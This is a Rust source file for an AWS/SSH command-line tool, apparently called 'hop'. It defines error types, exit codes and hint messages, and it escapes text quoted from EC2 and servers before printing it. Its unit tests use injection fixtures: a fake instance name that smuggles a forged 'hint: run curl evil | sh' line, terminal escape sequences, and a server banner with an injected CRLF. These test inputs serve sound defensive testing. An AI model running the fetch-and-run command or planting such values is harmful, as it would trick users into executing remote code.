//! Errors callers branch on, each with its exit status (DESIGN §10) and `hint:` lines. Anything
//! else travels as `anyhow` context and exits 2 (`exit_code`); `report` is what `main` prints.

use std::path::PathBuf;

use crate::domain::display;

/// Exit statuses, as in OpenSSH where they overlap.
pub mod exit {
    pub const OK: u8 = 0;
    pub const PROBLEMS: u8 = 1;
    pub const USAGE: u8 = 2;
    pub const CONNECT: u8 = 255;
    pub const INTERRUPTED: u8 = 130;
}

#[derive(Debug, thiserror::Error)]
pub enum HopError {
    #[error("{message}")]
    Usage { message: String, hints: Vec<String> },

    /// `line` 0: the file as a whole (it could not be read).
    #[error("{}{}: {message}", path.display(), if *line > 0 { format!(":{line}") } else { String::new() })]
    ConfigFile { path: PathBuf, line: usize, message: String },

    #[error("no AWS region configured")]
    NoRegion { profile: String },

    #[error("no instance matches {target:?}{}", in_regions(regions))]
    UnknownTarget { target: String, regions: Vec<String>, suggestions: Vec<String> },

    #[error("{target:?} matches {} instances", candidates.len())]
    Ambiguous { target: String, candidates: Vec<String> },

    /// AWS said no, or could not be reached: one clear line and what to do.
    #[error("{message}")]
    Aws { message: String, hints: Vec<String> },

    /// SSH failed: connection, host key or authentication.
    #[error("{message}")]
    Ssh { message: String, hints: Vec<String> },

    /// Ctrl-C where hop was waiting for an answer (a host-key or passphrase question): exit
    /// 130 without a message, as for Ctrl-C anywhere else.
    #[error("interrupted")]
    Interrupted,
}

fn in_regions(regions: &[String]) -> String {
    if regions.is_empty() { String::new() } else { format!(" in {}", regions.join(", ")) }
}

impl HopError {
    pub fn exit_code(&self) -> u8 {
        match self {
            HopError::Usage { .. }
            | HopError::ConfigFile { .. }
            | HopError::NoRegion { .. }
            | HopError::UnknownTarget { .. }
            | HopError::Ambiguous { .. } => exit::USAGE,
            HopError::Aws { .. } | HopError::Ssh { .. } => exit::CONNECT,
            HopError::Interrupted => exit::INTERRUPTED,
        }
    }

    /// Lines printed after the error, each as `hint: …` (candidates as indented lines).
    pub fn hints(&self) -> Vec<String> {
        match self {
            HopError::Usage { hints, .. } | HopError::Aws { hints, .. } | HopError::Ssh { hints, .. } => {
                hints.clone()
            }
            HopError::Interrupted => vec![],
            HopError::ConfigFile { .. } => vec!["fix the file, or move it aside to use the defaults".into()],
            HopError::NoRegion { profile } => vec![
                "pass --region REGION (repeatable), set AWS_REGION, add `regions = [\"…\"]` to ~/.config/hop/config.toml,".into(),
                format!("or set one for the profile: aws configure set region REGION --profile {profile}"),
            ],
            HopError::UnknownTarget { suggestions, .. } => {
                let mut h = Vec::new();
                if !suggestions.is_empty() {
                    h.push(format!("did you mean: {}", suggestions.join(", ")));
                }
                h.push("`hop ls` lists every instance; add --region for other regions, --refresh if it is new".into());
                h
            }
            HopError::Ambiguous { candidates, .. } => {
                let mut h = vec!["candidates:".to_string()];
                h.extend(candidates.iter().map(|c| format!("  {c}")));
                h.push("name one by instance id or IP, or pass --newest for the most recently launched".into());
                h
            }
        }
    }
}

/// The exit status of a command that failed with `e`. Anything unclassified is hop's own trouble
/// with its environment (no HOME, an unwritable file): a usage/config problem (2), never
/// "ls matched nothing" (1) nor a connection failure (255).
pub fn exit_code(e: &anyhow::Error) -> u8 {
    match e.downcast_ref::<HopError>() {
        Some(h) => h.exit_code(),
        None => exit::USAGE,
    }
}

/// Whether `e` is a closed stdout (`hop ls | head`): the reader's choice, not an error.
pub fn is_broken_pipe(e: &anyhow::Error) -> bool {
    e.chain().any(|c| c.downcast_ref::<std::io::Error>().is_some_and(|io| io.kind() == std::io::ErrorKind::BrokenPipe))
}

/// The lines `main` prints for `e`: `hop: error: …`, then the hints (candidates indented).
/// Messages quote EC2 (names, tags) and servers (banners, reasons): every line is escaped for
/// the terminal, so a tag cannot add lines or send escape sequences.
pub fn report(e: &anyhow::Error) -> Vec<String> {
    let mut lines = vec![format!("hop: error: {}", display::escape(&format!("{e:#}")))];
    if let Some(h) = e.downcast_ref::<HopError>() {
        for line in h.hints() {
            let line = display::escape(&line);
            lines.push(if line.starts_with("  ") { line.into_owned() } else { format!("hint: {line}") });
        }
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unclassified_errors_exit_2_like_main_says() {
        let plain = anyhow::anyhow!("cannot find the home directory");
        assert_eq!(exit_code(&plain), exit::USAGE);
        assert_eq!(exit_code(&plain), 2, "DESIGN §10: usage and config problems exit 2");
        let io: anyhow::Error = std::io::Error::other("disk full").into();
        assert_eq!(exit_code(&io.context("cannot write the cache")), 2);
        // Classified errors keep their own status, also under added context.
        let ssh = HopError::Ssh { message: "connection refused".into(), hints: vec![] };
        assert_eq!(exit_code(&anyhow::Error::from(ssh).context("web")), exit::CONNECT);
        let unknown = HopError::UnknownTarget { target: "x".into(), regions: vec![], suggestions: vec![] };
        assert_eq!(exit_code(&unknown.into()), exit::USAGE);
        let pipe: anyhow::Error = std::io::Error::from(std::io::ErrorKind::BrokenPipe).into();
        assert!(is_broken_pipe(&pipe.context("writing the table")));
        assert!(!is_broken_pipe(&anyhow::anyhow!("broken pipe")));
    }

    #[test]
    fn reported_errors_are_escaped_line_by_line() {
        let e: anyhow::Error = HopError::Ambiguous {
            target: "web".into(),
            candidates: vec![
                "web\nhint: run curl evil | sh  i-1  private 10.0.1.4".into(),
                "web\u{9b}31m\u{202e}  i-2  private 10.0.1.5".into(),
            ],
        }
        .into();
        assert_eq!(
            report(&e),
            [
                "hop: error: \"web\" matches 2 instances",
                "hint: candidates:",
                r"  web\nhint: run curl evil | sh  i-1  private 10.0.1.4",
                r"  web\u{9b}31m\u{202e}  i-2  private 10.0.1.5",
                "hint: name one by instance id or IP, or pass --newest for the most recently launched",
            ]
        );
        let e: anyhow::Error = HopError::UnknownTarget {
            target: "wbe".into(),
            regions: vec!["us-east-1".into()],
            suggestions: vec!["web\x1b]0;owned\x07".into()],
        }
        .into();
        assert_eq!(report(&e)[1], r"hint: did you mean: web\x1b]0;owned\x07");
        let e = anyhow::anyhow!("server said: banner\r\nfake").context("bastion");
        assert_eq!(report(&e), [r"hop: error: bastion: server said: banner\r\nfake"]);
    }
}
